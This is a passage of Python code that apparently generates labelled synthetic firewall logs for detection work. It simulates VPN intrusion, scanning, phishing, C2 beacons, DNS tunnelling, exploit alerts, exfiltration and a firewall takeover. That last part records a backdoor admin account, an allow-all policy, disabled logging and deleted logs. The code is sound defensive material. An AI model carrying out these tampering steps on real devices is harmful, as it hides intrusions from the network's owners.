                     country=self.choice(["Russian Federation", "Netherlands", "Bulgaria", "Germany", "Panama"]))
        self.vpn(day_hour(1, 2.2), self.second_user, "45.227.255.190", 1, 1, "vpn_intruder", "T1133", country="Panama")
        self.vpn(day_hour(2, 1.1), self.second_user, "193.142.146.9", 1, 1, "vpn_intruder", "T1133", country="Germany")
        for number in range(36):
            at = day_hour(self.rng.choice([1, 2]), 2.3) + number * self.rng.uniform(15, 300)
            pairs = self.rng.choice([("dc1", 445), ("dc1", 389), ("dc1", 88), ("fs", 445), ("nas", 445), ("sql", 1433), ("esx", 443),
                                     ("esx", 22), ("vc", 443), ("bk", 3389), ("dc2", 3389), ("mgmt", 5985), ("dc1", 49155)])
            self.traffic(at, "10.212.134.61", SERVERS[pairs[0]], pairs[1],
                         self.weighted({"close": 5, "server-rst": 2, "timeout": 2, "client-rst": 1}), 21,
                         sizes=(int(self.rng.lognormvariate(8, 2)), int(self.rng.lognormvariate(9, 2))), label=1, group="vpn_intruder",
                         technique="T1021")
        for number in range(40):
            at = day_hour(2, 10) + number * self.rng.uniform(0.3, 30)
            target = f"192.168.{self.rng.choice([1, 10, 20, 40])}.{self.rng.randint(1, 254)}"
            self.traffic(at, self.victim, target, self.rng.choice([445, 3389, 22, 80, 443, 135, 5985, 8006, 9443, 3306]),
                         self.weighted({"server-rst": 4, "timeout": 4, "close": 2, "deny": 3}), 7, user=self.victim_user,
                         sizes=(self.rng.randint(40, 700), self.rng.randint(0, 900)), seconds=self.rng.randint(0, 12), label=1,
                         group="scan", technique="T1046")

    def beacons_and_holes(self) -> None:
        """Beacons, data sent out, known holes."""
        self.web(day_hour(1, 8.9), self.victim, self.victim_user, CONTROL[1], "mein-paket-zustellung.com",
                 f"/t/{self.token(8)}/sendung.php?e={self.token(24)}", cat=90, category_text="Newly Observed Domain", label=1,
                 group="phish", technique="T1566.002", ref="https://outlook.office365.com/")
        self.web(day_hour(1, 8.95), self.victim, self.victim_user, CONTROL[1], "mein-paket-zustellung.com",
                 "/dl/Sendungsdetails_8812.js", cat=0, category_text="Unrated", label=1, group="phish", technique="T1204.002")
        for number in range(50):
            at = day_hour(1, 9) + number * self.rng.uniform(2000, 6500)
            which = number % 2
            if number % 3:
                self.traffic(at, [self.victim, self.second_victim][which], CONTROL[which], [443, 8443][self.rng.random() < 0.2],
                             self.weighted({"close": 7, "client-rst": 1}), 3,
                             self.weighted({"HTTPS.BROWSER": 3, "SSL_TLSv1.2": 4, None: 3}), "Network.Service",
                             [self.victim_user, self.second_user][which], sizes=(self.rng.randint(1100, 1500),
                    self.rng.randint(2600, 3300)), seconds=self.rng.randint(1, 5), label=1, group="c2_beacon", technique="T1071.001")
            else:
                self.web(at, [self.victim, self.second_victim][which], [self.victim_user, self.second_user][which], CONTROL[which],
                         self.choice(["sync-edgecache.net", "api.timesrv-check.com", CONTROL[which]]),
                         self.choice([f"/rest/2/meetings?id={self.token(20)}", "/cm", f"/owa/?path=/calendar&wa={self.token(40)}",
                                      "/news.php", f"/pixel.gif?c={self.hex(16)}"]), cat=self.choice([0, 90, 52]),
                         category_text=self.choice(["Unrated", "Newly Observed Domain", "Information Technology"]), label=1,
                         group="c2_beacon", technique="T1071.001", method=self.choice(["GET", "POST"]),
                         agent=self.choice([None, BROWSERS[4], "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1)"]))
        for number in range(36):
            at = day_hour(3, 1) + number * self.rng.uniform(5, 1400)
            self.name_query(at, SERVERS[self.choice(["dc1", "dc2"])], None,
                            self.weighted([(f"{self.hex(56)}.{self.hex(30)}.data.wsusnode.org", 4),
                                           (f"{self.token(18).lower()}.wsusnode.org", 2),
                                           (f"{''.join(self.choice('bcdfghjklmnpqrstvwxyz') for _ in range(self.rng.randint(11, 17)))}."
                                            f"{self.choice(['top', 'xyz', 'biz', 'info', 'ru'])}", 4)]),
                            self.weighted({"TXT": 4, "A": 4, "NULL": 0.6, "MX": 1}), 1, "dns_c2", "T1071.004",
                            self.weighted({"pass": 4, "redirect": 1}),
                            self.choice(["Unrated", "Newly Registered Domain", "Information Technology", "Malicious Websites"]))
        for _ in range(34):
            at = START + self.rng.random() * DAYS * 86400
            exploit = self.choice(EXPLOITS)
            self.ips(at, self.address(), SERVERS["web"], 443, exploit[0], exploit[1], exploit[2],
                     self.weighted({"dropped": 6, "detected": 3}), exploit[3], 1, "web_exploit", "T1190")
        for number in range(12):
            at = day_hour(3, 14) + number * 400
            exploit = self.rng.choice([("MS.SMB.Server.Trans.Peeking.Data.Information.Disclosure", 43799, "critical"),
                                       ("PsExec.Remote.Execution", 46312, "medium"), ("MS.Windows.Netlogon.Elevation.of.Privilege",
                49499, "critical"), ("MS.Windows.DRSUAPI.Replication.Request", 51230, "high")])
            self.ips(at, self.victim, SERVERS[self.choice(["dc1", "fs"])], 445, exploit[0], exploit[1], exploit[2], "detected", label=1,
                     group="lateral", technique="T1210", inc=False, user=self.victim_user, svc="SMB")
        for number in range(8):
            at = day_hour(4, self.rng.uniform(1, 5))
            self.traffic(at, SERVERS[self.choice(["fs", "nas"])] if number % 2 else self.victim,
                         self.choice([CONTROL[2], "66.203.125.11", self.address("185.107")]), self.choice([443, 443, 22, 21]), "close",
                         self.choice([12, 3]), self.choice(["MEGA", "SSL_TLSv1.3", "SSH", None]), "Storage.Backup", None,
                         sizes=(int(self.rng.lognormvariate(21.5, 0.8)), int(self.rng.lognormvariate(15, 1))),
                         seconds=self.rng.randint(600, 9000), label=1, group="exfil", technique="T1048")

    def taken_over(self) -> None:
        """The firewall's own accounts."""
        for number in range(10):
            self.event(day_hour(3, 22) + number * 21, "0100032002", "system", "alert", "Admin login failed",
                       [("sn", "0"), ("user", self.choice(["admin", "root", "fortinet", "netz", "administrator"])),
                        ("ui", "https(10.212.134.61)"), ("method", "https"), ("srcip", "10.212.134.61"), ("dstip", "192.168.1.1"),
                        ("action", "login"), ("status", "failed"), ("reason", self.choice(["passwd_invalid", "name_invalid"])),
                        ("msg", "Administrator admin login failed from https(10.212.134.61) because of invalid password")], 1,
                       "fw_admin", "T1110")
        for account, interface in [("Local_Process_Access", "Report Runner"), ("admin", "https(10.212.134.61)"),
                                   ("admin", "jsconsole(127.0.0.1)"), ("admin", "jsconsole(8.8.8.8)")]:
            self.event(day_hour(3, 22.6) + self.rng.random() * 900, "0100032001", "system", "information", "Admin login successful",
                       [("sn", str(int(day_hour(3, 22)))), ("user", account), ("ui", interface),
                        ("method", "jsconsole" if "js" in interface else "https"),
                        ("srcip", interface[interface.find("(") + 1:-1] if "(" in interface else "127.0.0.1"), ("dstip", "192.168.1.1"),
                        ("action", "login"), ("status", "success"), ("reason", "none"), ("profile", "super_admin"),
                        ("msg", f"Administrator {account} logged in successfully from {interface}")], 1, "fw_admin", "T1078")
        for path, name, attribute, what in [("system.admin", "fortigate-tech-support", "password[*]accprofile[super_admin]vdom[root]",
                                             "Add"), ("user.local", "svcfgt", "passwd[*]type[password]", "Add"),
                                            ("user.group", "SSLVPN-Users", "member[->svcfgt]", "Edit"),
                                            ("firewall.policy", "99",
                                             "srcintf[ssl.root]dstintf[any]action[accept]srcaddr[all]dstaddr[all]service[ALL]", "Add"),
                                            ("vpn.ssl.settings", "", "source-address[->all]", "Edit"),
                                            ("log.syslogd.setting", "", "status[enable->disable]", "Edit"),
                                            ("ips.sensor", "high_security", "entries:1.action[block->pass]", "Edit"),
                                            ("system.global", "", "admin-sport[8443->443]", "Edit"),
                                            ("firewall.local-in-policy", "1", "", "Delete"), ("system.automation-trigger", "bk", "",
            "Add")]:
            self.event(day_hour(3, 23) + self.rng.random() * 3600, "0100044547", "system", "information", "Object attribute configured",
                       [("user", self.choice(["admin", "Local_Process_Access", "fortigate-tech-support"])),
                        ("ui", self.choice(["GUI(10.212.134.61)", "jsconsole(127.0.0.1)", "Report Runner"])), ("action", what),
                        ("cfgtid", self.rng.randint(10 ** 6, 10 ** 8)), ("cfgpath", path), ("cfgobj", name), ("cfgattr", attribute),
                        ("msg", f"{what} {path} {name}")], 1, "fw_admin", "T1562.004")
        self.event(day_hour(4, 0.2), "0100032095", "system", "warning", "Admin performed an action from GUI",
                   [("user", "admin"), ("ui", "GUI(10.212.134.61)"), ("action", "download"), ("status", "success"),
                    ("msg", "System config file has been downloaded by user admin via GUI(10.212.134.61)")], 1, "fw_admin", "T1602.002")
        self.event(day_hour(4, 0.3), "0100020010", "system", "warning", "Log deleted",
                   [("user", "admin"), ("ui", "jsconsole(127.0.0.1)"), ("action", "delete"),
                    ("msg", "User admin deleted all disk logs")], 1, "fw_admin", "T1070")
